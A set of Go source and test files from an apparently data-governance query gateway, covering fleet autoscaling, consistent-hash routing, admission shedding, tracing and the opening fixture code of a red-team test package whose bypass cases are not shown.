type fakeSignals struct {
	depth int
	sheds int64
}

func (f *fakeSignals) QueueDepth() int { return f.depth }
func (f *fakeSignals) Sheds() int64    { return f.sheds }

func TestAutoscalerHysteresis(t *testing.T) {
	g, _, ts := newFleet(t, 4, 0)
	c := connect.Dial(ts.URL, "tok")
	if _, err := c.Sql("SELECT 1").Collect(); err != nil {
		t.Fatal(err)
	}

	sig := &fakeSignals{}
	a := NewAutoscaler(g, AutoscaleConfig{
		Signals:        sig,
		GrowQueueDepth: 4,
		UpAfter:        2,
		DownAfter:      3,
		Cooldown:       2,
	})

	// One overloaded tick is not enough (hysteresis).
	sig.depth = 10
	if d := a.Tick(); d.Action != "hold" {
		t.Fatalf("tick 1 = %+v, want hold (streak)", d)
	}
	// Second consecutive overloaded tick grows the fleet.
	d := a.Tick()
	if d.Action != "grow" || d.Reason != "queue-depth" {
		t.Fatalf("tick 2 = %+v, want grow(queue-depth)", d)
	}
	if g.FleetStats().Clusters != 2 {
		t.Fatalf("clusters = %d, want 2", g.FleetStats().Clusters)
	}

	// Cooldown: even sustained overload cannot grow again immediately.
	for i := 0; i < 2; i++ {
		if d := a.Tick(); d.Action != "hold" || d.Reason != "cooldown" {
			t.Fatalf("cooldown tick %d = %+v", i, d)
		}
	}

	// Load subsides: shrink only after DownAfter consecutive idle ticks.
	sig.depth = 0
	for i := 0; i < 2; i++ {
		if d := a.Tick(); d.Action != "hold" {
			t.Fatalf("idle tick %d = %+v, want hold", i, d)
		}
	}
	d = a.Tick()
	if d.Action != "shrink" {
		t.Fatalf("idle tick 3 = %+v, want shrink", d)
	}
	if got := g.FleetStats().Clusters; got != 1 {
		t.Fatalf("clusters after shrink = %d, want 1", got)
	}
	// The surviving session kept working through scale-in.
	if _, err := c.Sql("SELECT 1").Collect(); err != nil {
		t.Fatalf("query after shrink: %v", err)
	}
}

func TestAutoscalerShedSignalTriggersGrowth(t *testing.T) {
	g, _, ts := newFleet(t, 4, 0)
	cl := connect.Dial(ts.URL, "tok")
	if _, err := cl.Sql("SELECT 1").Collect(); err != nil {
		t.Fatal(err)
	}
	sig := &fakeSignals{}
	a := NewAutoscaler(g, AutoscaleConfig{Signals: sig, UpAfter: 1, Cooldown: 1})

	// A rising shed count alone (queue empty) marks the fleet overloaded.
	sig.sheds = 5
	if d := a.Tick(); d.Action != "grow" || d.Reason != "sheds" {
		t.Fatalf("tick = %+v, want grow(sheds)", d)
	}
	// Flat shed count does not re-trigger after cooldown.
	a.Tick() // cooldown
	if d := a.Tick(); d.Action == "grow" {
		t.Fatalf("flat shed count grew the fleet: %+v", d)
	}
}

func TestAutoscalerRespectsMinClusters(t *testing.T) {
	g, _, _ := newFleet(t, 4, 0)
	a := NewAutoscaler(g, AutoscaleConfig{Signals: &fakeSignals{}, DownAfter: 1})
	for i := 0; i < 5; i++ {
		if d := a.Tick(); d.Action == "shrink" {
			t.Fatalf("shrank a single-cluster fleet: %+v", d)
		}
	}
	if g.FleetStats().Clusters != 1 {
		t.Fatalf("clusters = %d, want 1", g.FleetStats().Clusters)
	}
}
