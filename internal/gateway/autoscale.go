package gateway

import (
	"lakeguard/internal/telemetry"
)

// LoadSignals is the admission-side load feed the autoscaler reads each
// tick. *admission.Controller implements it; tests use fakes.
type LoadSignals interface {
	// QueueDepth is the number of requests currently waiting for admission.
	QueueDepth() int
	// Sheds is the monotonic count of shed requests.
	Sheds() int64
}

// AutoscaleConfig tunes the fleet autoscaler.
type AutoscaleConfig struct {
	// Signals feeds queue depth and shed counts (required for queue/shed
	// triggers; nil limits the autoscaler to per-cluster-load triggers).
	Signals LoadSignals
	// GrowQueueDepth triggers growth when admission queue depth is at least
	// this (default 8).
	GrowQueueDepth int
	// GrowLoadFraction triggers growth when fleet session load exceeds this
	// fraction of total capacity (default 0.9).
	GrowLoadFraction float64
	// ShrinkLoadFraction allows shrink when fleet session load is below this
	// fraction of the capacity the fleet would have after shrinking
	// (default 0.5).
	ShrinkLoadFraction float64
	// UpAfter is how many consecutive overloaded ticks precede a grow
	// (default 2) — hysteresis against transient spikes.
	UpAfter int
	// DownAfter is how many consecutive underloaded ticks precede a shrink
	// (default 6) — scale-in is deliberately slower than scale-out.
	DownAfter int
	// Cooldown is how many ticks after any scaling action both streaks are
	// ignored (default 3), so the fleet observes the effect of one action
	// before taking another.
	Cooldown int
	// MinClusters floors the fleet (default 1).
	MinClusters int
	// Metrics, when non-nil, exports autoscale.grows / autoscale.shrinks.
	Metrics *telemetry.Registry
}

// Decision is one Tick's outcome.
type Decision struct {
	Action string // "hold", "grow", or "shrink"
	// Cluster is the cluster added or removed ("" on hold).
	Cluster string
	// Moved is how many sessions migrated as part of the action.
	Moved int
	// Reason explains the trigger ("queue-depth", "sheds", "load", "idle",
	// "streak", "cooldown").
	Reason string
}

// Autoscaler grows and shrinks a Gateway fleet off admission-layer load
// signals with hysteresis: growth needs UpAfter consecutive overloaded
// ticks, shrink needs DownAfter consecutive underloaded ticks, and every
// action is followed by a cooldown during which the fleet only observes.
// Drive it by calling Tick on a timer (the server does) or directly (tests,
// benches). Not safe for concurrent Ticks.
type Autoscaler struct {
	cfg AutoscaleConfig
	g   *Gateway

	upStreak   int
	downStreak int
	cooldown   int
	lastSheds  int64

	cGrows   *telemetry.Counter
	cShrinks *telemetry.Counter
}

// NewAutoscaler builds an autoscaler for g, applying config defaults.
func NewAutoscaler(g *Gateway, cfg AutoscaleConfig) *Autoscaler {
	if cfg.GrowQueueDepth <= 0 {
		cfg.GrowQueueDepth = 8
	}
	if cfg.GrowLoadFraction <= 0 {
		cfg.GrowLoadFraction = 0.9
	}
	if cfg.ShrinkLoadFraction <= 0 {
		cfg.ShrinkLoadFraction = 0.5
	}
	if cfg.UpAfter <= 0 {
		cfg.UpAfter = 2
	}
	if cfg.DownAfter <= 0 {
		cfg.DownAfter = 6
	}
	if cfg.Cooldown <= 0 {
		cfg.Cooldown = 3
	}
	if cfg.MinClusters <= 0 {
		cfg.MinClusters = 1
	}
	return &Autoscaler{
		cfg:      cfg,
		g:        g,
		cGrows:   cfg.Metrics.Counter("autoscale.grows"),
		cShrinks: cfg.Metrics.Counter("autoscale.shrinks"),
	}
}

// Tick observes the load signals once and possibly scales the fleet.
func (a *Autoscaler) Tick() Decision {
	st := a.g.FleetStats()
	capacity := st.Clusters * a.g.cfg.MaxSessionsPerCluster
	load := float64(st.Sessions) / float64(capacity)

	overloaded, growReason := false, ""
	if a.cfg.Signals != nil {
		if depth := a.cfg.Signals.QueueDepth(); depth >= a.cfg.GrowQueueDepth {
			overloaded, growReason = true, "queue-depth"
		}
		sheds := a.cfg.Signals.Sheds()
		if sheds > a.lastSheds {
			overloaded, growReason = true, "sheds"
		}
		a.lastSheds = sheds
	}
	if !overloaded && load >= a.cfg.GrowLoadFraction {
		overloaded, growReason = true, "load"
	}

	// Underloaded if, after removing one cluster, the remaining capacity
	// would still keep load below the shrink watermark.
	underloaded := false
	if st.Clusters > a.cfg.MinClusters && !overloaded {
		shrunkCap := (st.Clusters - 1) * a.g.cfg.MaxSessionsPerCluster
		if shrunkCap > 0 && float64(st.Sessions)/float64(shrunkCap) < a.cfg.ShrinkLoadFraction {
			underloaded = true
		}
	}

	if a.cooldown > 0 {
		a.cooldown--
		a.upStreak, a.downStreak = 0, 0
		return Decision{Action: "hold", Reason: "cooldown"}
	}

	if overloaded {
		a.downStreak = 0
		a.upStreak++
		if a.upStreak >= a.cfg.UpAfter {
			name, moved, err := a.g.Grow()
			if err != nil {
				a.upStreak = 0
				return Decision{Action: "hold", Reason: "streak"}
			}
			a.upStreak = 0
			a.cooldown = a.cfg.Cooldown
			a.cGrows.Inc()
			return Decision{Action: "grow", Cluster: name, Moved: moved, Reason: growReason}
		}
		return Decision{Action: "hold", Reason: "streak"}
	}

	if underloaded {
		a.upStreak = 0
		a.downStreak++
		if a.downStreak >= a.cfg.DownAfter {
			name, moved, err := a.g.ShrinkOne()
			a.downStreak = 0
			if err != nil || name == "" {
				return Decision{Action: "hold", Reason: "streak"}
			}
			a.cooldown = a.cfg.Cooldown
			a.cShrinks.Inc()
			return Decision{Action: "shrink", Cluster: name, Moved: moved, Reason: "idle"}
		}
		return Decision{Action: "hold", Reason: "streak"}
	}

	a.upStreak, a.downStreak = 0, 0
	return Decision{Action: "hold", Reason: ""}
}
