package gateway

import (
	"fmt"
	"net/http/httptest"
	"testing"

	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/storage"
)

const admin = "admin@corp.com"

func newFleet(t *testing.T, maxSessions, maxClusters int) (*Gateway, *catalog.Catalog, *httptest.Server) {
	t.Helper()
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	g := New(Config{
		Provision: func(name string) *core.Server {
			return core.NewServer(core.Config{
				Name: name, Catalog: cat, Compute: catalog.ComputeServerless,
			})
		},
		MaxSessionsPerCluster: maxSessions,
		MaxClusters:           maxClusters,
	})
	svc := connect.NewService(g, connect.TokenMap{"tok": admin})
	ts := httptest.NewServer(svc.Handler())
	t.Cleanup(ts.Close)
	return g, cat, ts
}

func TestSingleEndpointServesQueries(t *testing.T) {
	_, _, ts := newFleet(t, 4, 0)
	c := connect.Dial(ts.URL, "tok")
	if _, err := c.ExecSQL("CREATE TABLE t (x BIGINT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.ExecSQL("INSERT INTO t VALUES (1), (2), (3)"); err != nil {
		t.Fatal(err)
	}
	n, err := c.Table("t").Count()
	if err != nil || n != 3 {
		t.Fatalf("count = %d, %v", n, err)
	}
}

func TestScaleOutUnderLoad(t *testing.T) {
	g, _, ts := newFleet(t, 2, 0)
	// 5 concurrent sessions with a cap of 2 per cluster -> 3 clusters.
	for i := 0; i < 5; i++ {
		c := connect.Dial(ts.URL, "tok")
		if _, err := c.Sql("SELECT 1 AS one").Collect(); err != nil {
			t.Fatal(err)
		}
	}
	st := g.FleetStats()
	if st.Clusters != 3 || st.Sessions != 5 {
		t.Fatalf("fleet = %+v", st)
	}
	// Load is balanced: no cluster exceeds the cap.
	for name, n := range st.PerCluster {
		if n > 2 {
			t.Errorf("cluster %s overloaded: %d", name, n)
		}
	}
}

func TestFleetLimit(t *testing.T) {
	_, _, ts := newFleet(t, 1, 2)
	for i := 0; i < 2; i++ {
		c := connect.Dial(ts.URL, "tok")
		if _, err := c.Sql("SELECT 1").Collect(); err != nil {
			t.Fatal(err)
		}
	}
	c := connect.Dial(ts.URL, "tok")
	if _, err := c.Sql("SELECT 1").Collect(); err == nil {
		t.Fatal("expected fleet-full error")
	}
}

func TestSessionStickiness(t *testing.T) {
	g, _, ts := newFleet(t, 4, 0)
	c := connect.Dial(ts.URL, "tok")
	if _, err := c.ExecSQL("CREATE TABLE s (x BIGINT)"); err != nil {
		t.Fatal(err)
	}
	// Temp view lives on one backend; repeated queries must route there.
	if err := c.Table("s").CreateTempView("tv"); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		if _, err := c.Table("tv").Collect(); err != nil {
			t.Fatalf("query %d lost session state: %v", i, err)
		}
	}
	if g.FleetStats().Sessions != 1 {
		t.Errorf("sessions = %d", g.FleetStats().Sessions)
	}
}

func TestDrainMigratesSessions(t *testing.T) {
	g, _, ts := newFleet(t, 2, 0)
	clients := make([]*connect.Client, 3)
	for i := range clients {
		clients[i] = connect.Dial(ts.URL, "tok")
		if _, err := clients[i].ExecSQL(fmt.Sprintf("CREATE TABLE IF NOT EXISTS d%d (x BIGINT)", i)); err != nil {
			t.Fatal(err)
		}
		if err := clients[i].Sql("SELECT 1 AS one").CreateTempView("mine"); err != nil {
			t.Fatal(err)
		}
	}
	before := g.FleetStats()
	if before.Clusters < 2 {
		t.Fatalf("expected scale-out, got %+v", before)
	}
	migrated, err := g.Drain(0)
	if err != nil {
		t.Fatal(err)
	}
	if migrated == 0 {
		t.Fatal("nothing migrated")
	}
	// Every session still sees its temp view (no user-visible downtime).
	for i, c := range clients {
		if _, err := c.Table("mine").Collect(); err != nil {
			t.Errorf("client %d lost state after drain: %v", i, err)
		}
	}
}

func TestCloseSessionFreesCapacity(t *testing.T) {
	_, _, ts := newFleet(t, 1, 1)
	c := connect.Dial(ts.URL, "tok")
	if _, err := c.Sql("SELECT 1").Collect(); err != nil {
		t.Fatal(err)
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	// Capacity freed: a new session fits in the single-cluster fleet.
	c2 := connect.Dial(ts.URL, "tok")
	if _, err := c2.Sql("SELECT 1").Collect(); err != nil {
		t.Fatalf("capacity not freed: %v", err)
	}
}

// TestEFGACThroughServerlessGateway composes Fig. 10 with §3.4: a dedicated
// cluster's eFGAC subqueries are submitted to the workspace endpoint, where
// the gateway routes (and provisions) serverless clusters to serve them.
func TestEFGACThroughServerlessGateway(t *testing.T) {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	const alice = "alice@corp.com"
	toks := connect.TokenMap{"tok": admin, "tok-alice": alice}
	gw := New(Config{
		Provision: func(name string) *core.Server {
			return core.NewServer(core.Config{Name: name, Catalog: cat, Compute: catalog.ComputeServerless})
		},
		MaxSessionsPerCluster: 1,
	})
	gwHTTP := httptest.NewServer(connect.NewService(gw, toks).Handler())
	defer gwHTTP.Close()

	efgac := &core.EFGACClient{
		Dial: func(user, sessionID string) *connect.Client {
			return connect.Dial(gwHTTP.URL, "tok-alice")
		},
		Cat: cat, Store: cat.Store(),
	}
	dedicated := core.NewServer(core.Config{
		Name: "ded", Catalog: cat, Compute: catalog.ComputeDedicated, Remote: efgac,
	})
	dedHTTP := httptest.NewServer(connect.NewService(dedicated, toks).Handler())
	defer dedHTTP.Close()
	std := core.NewServer(core.Config{Name: "std", Catalog: cat})
	stdHTTP := httptest.NewServer(connect.NewService(std, toks).Handler())
	defer stdHTTP.Close()

	adminC := connect.Dial(stdHTTP.URL, "tok")
	for _, stmt := range []string{
		"CREATE TABLE sales (seller STRING, region STRING)",
		"INSERT INTO sales VALUES ('ann', 'US'), ('ben', 'EU'), ('cat', 'US')",
		"ALTER TABLE sales SET ROW FILTER 'region = ''US'''",
		"GRANT SELECT ON sales TO 'alice@corp.com'",
	} {
		if _, err := adminC.ExecSQL(stmt); err != nil {
			t.Fatalf("%s: %v", stmt, err)
		}
	}
	aliceC := connect.Dial(dedHTTP.URL, "tok-alice")
	b, err := aliceC.Sql("SELECT seller FROM sales ORDER BY seller").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.NumRows() != 2 || b.Cols[0].StringAt(0) != "ann" {
		t.Fatalf("eFGAC via gateway:\n%s", b.String())
	}
	if gw.FleetStats().Provisions < 1 {
		t.Error("gateway never provisioned for the eFGAC subquery")
	}
}
