package gateway

import (
	"hash/fnv"
	"sort"
	"strconv"
)

// ringVnodes is the virtual-node count per cluster. More vnodes smooth the
// key distribution; 128 keeps lookup O(log(128·clusters)) while bounding the
// per-cluster share spread to a few percent at realistic fleet sizes.
const ringVnodes = 128

// ring is a consistent-hash ring over cluster names with virtual nodes.
// Lookup walks clockwise from the key's hash; the bounded-load variant skips
// members the caller reports as full, so a hot cluster sheds new keys to its
// clockwise successors instead of melting. Not safe for concurrent use — the
// gateway guards it with its own mutex.
type ring struct {
	hashes  []uint64          // sorted vnode positions
	members map[uint64]string // vnode position -> cluster name
}

func newRing() *ring {
	return &ring{members: map[uint64]string{}}
}

func ringHash(s string) uint64 {
	h := fnv.New64a()
	h.Write([]byte(s))
	x := h.Sum64()
	// FNV alone clusters on short, similar keys (vnode labels differ only in
	// a suffix digit); a splitmix64 finalizer spreads the low-entropy bits
	// across the whole word.
	x ^= x >> 30
	x *= 0xbf58476d1ce4e5b9
	x ^= x >> 27
	x *= 0x94d049bb133111eb
	x ^= x >> 31
	return x
}

// Add inserts a member's virtual nodes. Adding an existing member is a no-op.
func (r *ring) Add(name string) {
	for i := 0; i < ringVnodes; i++ {
		pos := ringHash(name + "#" + strconv.Itoa(i))
		if _, ok := r.members[pos]; ok {
			continue
		}
		r.members[pos] = name
		r.hashes = append(r.hashes, pos)
	}
	sort.Slice(r.hashes, func(i, j int) bool { return r.hashes[i] < r.hashes[j] })
}

// Remove deletes a member's virtual nodes.
func (r *ring) Remove(name string) {
	kept := r.hashes[:0]
	for _, pos := range r.hashes {
		if r.members[pos] == name {
			delete(r.members, pos)
			continue
		}
		kept = append(kept, pos)
	}
	r.hashes = kept
}

// Len returns the number of distinct members (by vnode count).
func (r *ring) Len() int {
	return len(r.hashes) / ringVnodes
}

// Owner returns the key's unconstrained ring owner ("" when empty). This is
// the member a key homes to when nothing is full — the rebalancer migrates a
// session only when its Owner changed.
func (r *ring) Owner(key string) string {
	name, _ := r.Lookup(key, nil)
	return name
}

// Lookup returns the first member clockwise from the key's hash for which
// full returns false (nil full accepts every member). The second result is
// false when the ring is empty or every member is full.
func (r *ring) Lookup(key string, full func(name string) bool) (string, bool) {
	if len(r.hashes) == 0 {
		return "", false
	}
	h := ringHash(key)
	start := sort.Search(len(r.hashes), func(i int) bool { return r.hashes[i] >= h })
	seen := map[string]bool{}
	for i := 0; i < len(r.hashes); i++ {
		pos := r.hashes[(start+i)%len(r.hashes)]
		name := r.members[pos]
		if seen[name] {
			continue
		}
		seen[name] = true
		if full == nil || !full(name) {
			return name, true
		}
	}
	return "", false
}
