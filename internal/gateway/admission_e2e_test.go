package gateway

import (
	"context"
	"errors"
	"net/http/httptest"
	"testing"
	"time"

	"lakeguard/internal/admission"
	"lakeguard/internal/audit"
	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/storage"
	"lakeguard/internal/telemetry"
)

// A shed request is rejected at the Connect front door: it never reaches the
// core engine, so queries.total and queries.errors on the fleet's shared
// metrics registry do not move, no session is provisioned for it, and the
// shed is audited exactly once.
func TestShedNeverReachesCore(t *testing.T) {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	met := telemetry.NewRegistry()
	aud := audit.NewLog()
	g := New(Config{
		Provision: func(name string) *core.Server {
			return core.NewServer(core.Config{
				Name: name, Catalog: cat, Compute: catalog.ComputeServerless,
				Metrics: met,
			})
		},
		MaxSessionsPerCluster: 8,
		Metrics:               met,
	})
	ctrl := admission.NewController(admission.Config{MaxConcurrent: 1, Metrics: met})
	svc := connect.NewService(g, connect.TokenMap{"tok": admin})
	svc.SetAdmission(ctrl)
	svc.SetAudit(aud)
	ts := httptest.NewServer(svc.Handler())
	t.Cleanup(ts.Close)

	// One successful query provisions the fleet and moves queries.total.
	c := connect.Dial(ts.URL, "tok")
	if _, err := c.Sql("SELECT 1").Collect(); err != nil {
		t.Fatal(err)
	}
	baseTotal := met.Counter("queries.total").Value()
	baseSessions := g.FleetStats().Sessions

	// Saturate the only slot, then send a request whose 1ms budget cannot
	// survive the ~10ms predicted wait.
	busy, err := ctrl.Acquire(context.Background(), "occupier")
	if err != nil {
		t.Fatal(err)
	}
	shedC := connect.Dial(ts.URL, "tok")
	shedC.SetTimeout(time.Millisecond)
	shedC.SetMaxRetries(0)
	_, err = shedC.Sql("SELECT 1").Collect()
	var oe *connect.OverloadedError
	if !errors.As(err, &oe) {
		t.Fatalf("err = %v, want *connect.OverloadedError", err)
	}
	busy.Release()

	if v := met.Counter("queries.errors").Value(); v != 0 {
		t.Errorf("queries.errors = %d, want 0 (shed is not a query error)", v)
	}
	if v := met.Counter("queries.total").Value(); v != baseTotal {
		t.Errorf("queries.total moved %d -> %d on a shed request", baseTotal, v)
	}
	if got := g.FleetStats().Sessions; got != baseSessions {
		t.Errorf("sessions = %d, want %d (shed must not provision)", got, baseSessions)
	}
	if n := aud.Count(func(e audit.Event) bool { return e.Action == "ADMISSION_SHED" }); n != 1 {
		t.Errorf("ADMISSION_SHED audit count = %d, want exactly 1", n)
	}
	if v := met.Counter("admission.shed").Value(); v != 1 {
		t.Errorf("admission.shed = %d, want 1", v)
	}

	// The shed client recovers once it stops asking for the impossible.
	shedC.SetTimeout(0)
	if _, err := shedC.Sql("SELECT 1").Collect(); err != nil {
		t.Fatalf("post-shed query: %v", err)
	}
	if v := met.Counter("queries.errors").Value(); v != 0 {
		t.Errorf("queries.errors = %d after recovery, want 0", v)
	}
}
