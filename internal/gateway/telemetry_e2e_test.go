package gateway

import (
	"net/http/httptest"
	"strings"
	"testing"

	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/storage"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// newTracedFleet is newFleet plus a tracer on the Connect service, so every
// query mints a full end-to-end trace.
func newTracedFleet(t *testing.T, parallelism int) (*catalog.Catalog, *telemetry.Tracer, *httptest.Server) {
	t.Helper()
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	g := New(Config{
		Provision: func(name string) *core.Server {
			return core.NewServer(core.Config{
				Name: name, Catalog: cat, Compute: catalog.ComputeServerless,
				Parallelism: parallelism,
			})
		},
	})
	tracer := telemetry.NewTracer()
	svc := connect.NewService(g, connect.TokenMap{"tok": admin})
	svc.SetTracer(tracer)
	ts := httptest.NewServer(svc.Handler())
	t.Cleanup(ts.Close)
	return cat, tracer, ts
}

// lastTrace returns the most recently completed trace.
func lastTrace(t *testing.T, tracer *telemetry.Tracer) *telemetry.Trace {
	t.Helper()
	recent := tracer.Recent()
	if len(recent) == 0 {
		t.Fatal("no completed traces")
	}
	return recent[len(recent)-1]
}

// TestEndToEndQueryTrace walks one query's trace through every layer: the
// Connect entry mints the trace, the gateway and core record their handling,
// the planning phases (analyze, optimize, sentinel verify) appear as spans,
// and execution contributes one span per physical operator with per-worker
// morsel spans and per-file storage GET spans underneath the parallel scan.
func TestEndToEndQueryTrace(t *testing.T) {
	cat, tracer, ts := newTracedFleet(t, 2)
	c := connect.Dial(ts.URL, "tok")
	if _, err := c.ExecSQL("CREATE TABLE ev (x BIGINT, tag STRING)"); err != nil {
		t.Fatal(err)
	}
	// Three INSERTs -> three data files, so the scan has morsels to
	// distribute across its two workers.
	for _, stmt := range []string{
		"INSERT INTO ev VALUES (1, 'a'), (2, 'b'), (3, 'a')",
		"INSERT INTO ev VALUES (4, 'b'), (5, 'a'), (6, 'b')",
		"INSERT INTO ev VALUES (7, 'a'), (8, 'b'), (9, 'a')",
	} {
		if _, err := c.ExecSQL(stmt); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := c.Sql("SELECT tag, SUM(x) AS total FROM ev WHERE x > 1 GROUP BY tag").Collect(); err != nil {
		t.Fatal(err)
	}

	tr := lastTrace(t, tracer)
	if tr.Name() != "query" {
		t.Fatalf("last trace is %q, want query", tr.Name())
	}
	for _, name := range []string{
		"gateway.execute", "core.execute",
		"analyzer.analyze", "optimizer.optimize", "sentinel.verify",
		"exec.Aggregate", "exec.Scan", "exec.worker", "storage.get",
	} {
		if len(tr.Find(name)) == 0 {
			t.Errorf("trace has no %q span; spans: %v", name, spanNames(tr))
		}
	}
	// The pushed filter is absorbed into the scan, so the scan span carries
	// the predicate detail via the operator label; workers hang off the scan
	// subtree and each reports the morsels it pulled.
	// Both the parallel scan and the parallel aggregate contribute worker
	// pools of Parallelism=2 each.
	workers := tr.Find("exec.worker")
	if len(workers) < 2 {
		t.Fatalf("want >= 2 worker spans, got %d", len(workers))
	}
	morsels := int64(0)
	for _, w := range workers {
		morsels += w.CountValue("morsels")
	}
	if morsels < 3 {
		t.Errorf("workers pulled %d morsels, want >= 3 (one per file)", morsels)
	}
	gets := tr.Find("storage.get")
	if len(gets) < 3 {
		t.Errorf("want >= 3 storage.get spans (one per data file), got %d", len(gets))
	}
	for _, g := range gets {
		if path, ok := g.Attr("path"); !ok || path == "" {
			t.Errorf("storage.get span missing path attribute")
		}
	}
	// The root span carries the caller identity stamped at the entry point.
	if user, _ := tr.Root().Attr("user"); user != admin {
		t.Errorf("root span user = %q, want %q", user, admin)
	}

	// Satellite: governance audit events are stamped with the same trace ID,
	// so a trace joins to its audit trail.
	if events := cat.Audit().ByTrace(tr.ID()); len(events) == 0 {
		t.Errorf("no audit events joined to trace %s", tr.ID())
	}

	// Every span that was opened during the session is closed again.
	if open := tracer.OpenSpans(); open != 0 {
		t.Errorf("%d spans left open", open)
	}
}

// TestTraceCoversSandboxCrossing runs a UDF query and asserts the trace
// reaches into the isolation layer: the sandbox crossing appears as a span
// in the same tree as the operators that fed it.
func TestTraceCoversSandboxCrossing(t *testing.T) {
	_, tracer, ts := newTracedFleet(t, 0)
	c := connect.Dial(ts.URL, "tok")
	if _, err := c.ExecSQL("CREATE TABLE nums (a BIGINT, b BIGINT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.ExecSQL("INSERT INTO nums VALUES (1, 10), (2, 20), (3, 30)"); err != nil {
		t.Fatal(err)
	}
	params := []types.Field{
		{Name: "a", Kind: types.KindInt64},
		{Name: "b", Kind: types.KindInt64},
	}
	if err := c.RegisterFunction("addup", params, types.KindInt64, "return a + b"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Sql("SELECT addup(a, b) AS s FROM nums").Collect(); err != nil {
		t.Fatal(err)
	}

	tr := lastTrace(t, tracer)
	sandboxSpans := tr.Find("sandbox.execute")
	if len(sandboxSpans) == 0 {
		t.Fatalf("UDF query trace has no sandbox.execute span; spans: %v", spanNames(tr))
	}
	if len(tr.Find("exec.Project")) == 0 {
		t.Errorf("UDF query trace has no exec.Project span; spans: %v", spanNames(tr))
	}
	if open := tracer.OpenSpans(); open != 0 {
		t.Errorf("%d spans left open", open)
	}
}

// TestTraceIDReachesClient asserts the X-Trace-Id response header matches a
// retained trace, so a user can quote it against /debug/queries.
func TestTraceIDReachesClient(t *testing.T) {
	_, tracer, ts := newTracedFleet(t, 0)
	c := connect.Dial(ts.URL, "tok")
	if _, err := c.ExecSQL("CREATE TABLE h (x BIGINT)"); err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, tr := range tracer.Recent() {
		ids = append(ids, tr.ID())
	}
	if len(ids) == 0 || ids[len(ids)-1] == "" {
		t.Fatalf("no trace IDs retained: %v", ids)
	}
}

func spanNames(tr *telemetry.Trace) string {
	var names []string
	for _, s := range tr.Spans() {
		names = append(names, s.Name())
	}
	return strings.Join(names, ", ")
}
