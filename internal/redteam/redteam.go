// Package redteam is the lakeguard-redteam adversarial bypass corpus: one
// hostile plan-rewrite (or plan/UDF smuggling attempt) per known bypass
// class, each mounted against a real governed deployment and each required
// to die at the sentinel gate with a SENTINEL_VERIFY deny audit event that
// names the violated governance label.
//
// The corpus is executable in two ways: `go test ./internal/redteam/` runs
// every case as a subtest (CI), and cmd/lakeguard-redteam runs the same
// cases as a standalone drill with text or JSON reporting. A case that is
// NOT blocked is a live governance bypass and fails both.
package redteam

import (
	"context"
	"fmt"
	"sort"
	"strings"

	"lakeguard/internal/audit"
	"lakeguard/internal/catalog"
	"lakeguard/internal/core"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/proto"
	"lakeguard/internal/sentinel"
	"lakeguard/internal/sql"
	"lakeguard/internal/storage"
)

// Identities used by every drill: admin seeds and governs, alice is the
// victim whose query the hostile rewrite rides on.
const (
	Admin  = "admin@corp.com"
	Victim = "alice@corp.com"
)

// Fixture is one fresh governed deployment under attack: a catalog with a
// row-filtered, column-masked sales table and a cluster whose optimizer runs
// the case's sabotage rules after the real ones — the paper's "Queen's
// Guard" threat model, where the plan pipeline itself is hostile.
type Fixture struct {
	Cat    *catalog.Catalog
	Server *core.Server
}

// NewFixture builds a deployment on the given compute type whose optimizer
// runs the sabotage rules after the built-in ones.
func NewFixture(compute catalog.ComputeType, rules ...optimizer.Rule) *Fixture {
	return NewFixtureP(compute, 1, rules...)
}

// NewFixtureP is NewFixture with an explicit engine parallelism, for drills
// that must hold at every worker count.
func NewFixtureP(compute catalog.ComputeType, parallelism int, rules ...optimizer.Rule) *Fixture {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(Admin)
	opts := optimizer.DefaultOptions()
	opts.ExtraRules = rules
	srv := core.NewServer(core.Config{
		Name: "redteam", Catalog: cat, Compute: compute,
		Optimizer: &opts, Parallelism: parallelism,
	})
	return &Fixture{Cat: cat, Server: srv}
}

// Exec runs a SQL statement (DDL, DML, GRANT) as the given user.
func (f *Fixture) Exec(user, sqlText string) error {
	_, _, err := f.Server.Execute(context.Background(), "rt-"+user, user,
		&proto.Plan{Command: &proto.Command{SQL: sqlText}})
	return err
}

// Query runs a SQL query as the given user and returns the error it died
// with (nil means rows were returned — for a corpus case, a live bypass).
func (f *Fixture) Query(user, sqlText string) error {
	q, err := sql.ParseQuery(sqlText)
	if err != nil {
		return fmt.Errorf("redteam: victim query does not parse: %w", err)
	}
	_, _, err = f.Server.Execute(context.Background(), "rt-"+user, user,
		&proto.Plan{Relation: q})
	return err
}

// QueryRows runs a query as the given user and renders the result rows as a
// sorted slice of strings — an order-insensitive form for comparing results
// across parallelism levels.
func (f *Fixture) QueryRows(user, sqlText string) ([]string, error) {
	q, err := sql.ParseQuery(sqlText)
	if err != nil {
		return nil, err
	}
	_, batches, err := f.Server.Execute(context.Background(), "rt-"+user, user,
		&proto.Plan{Relation: q})
	if err != nil {
		return nil, err
	}
	var rows []string
	for _, b := range batches {
		for i := 0; i < b.NumRows(); i++ {
			rows = append(rows, fmt.Sprintf("%v", b.Row(i)))
		}
	}
	sort.Strings(rows)
	return rows, nil
}

// Seed creates the governed sales table: a tenant row filter on region and
// a column mask on seller, with the victim granted SELECT. The resulting
// governance labels are row_filter:main.default.sales and
// column_mask:main.default.sales.seller.
func (f *Fixture) Seed() error {
	stmts := []string{
		"CREATE TABLE sales (amount DOUBLE, date DATE, seller STRING, region STRING)",
